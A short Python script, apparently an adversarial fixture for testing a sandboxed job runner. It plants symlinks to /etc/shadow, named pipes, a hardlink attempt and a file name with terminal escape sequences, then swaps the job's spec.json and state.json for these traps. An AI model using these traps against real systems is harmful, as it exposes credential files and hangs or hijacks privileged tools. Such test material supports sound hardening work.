"""Leaves traps in its own folder for whoever looks at it with more rights, and waits."""

import contextlib
import os
import time

job = os.environ["JOB_DIR"]
work = os.getcwd()
for name in ("link", "trap.ckpt"):
    os.symlink("/etc/shadow", name)
os.symlink("/etc", "folder")
os.mkfifo("pipe")
os.mkfifo("pipe.ckpt")
with contextlib.suppress(PermissionError):  # as protected_hardlinks has it
    os.link("/etc/shadow", "twin")
with open("\x1b]0;owned\x07\x1b[2J", "w") as file:
    file.write("harmless")
with open("result", "w") as file:
    file.write("harmless")
print("planted \x1b]0;owned\x07\x1b[2J", flush=True)
time.sleep(1)
for name, trap in (("spec.json", "pipe"), ("state.json", "link")):
    os.unlink(f"{job}/{name}")
    os.rename(f"{work}/{trap}", f"{job}/{name}")
print("ready", flush=True)
time.sleep(600)
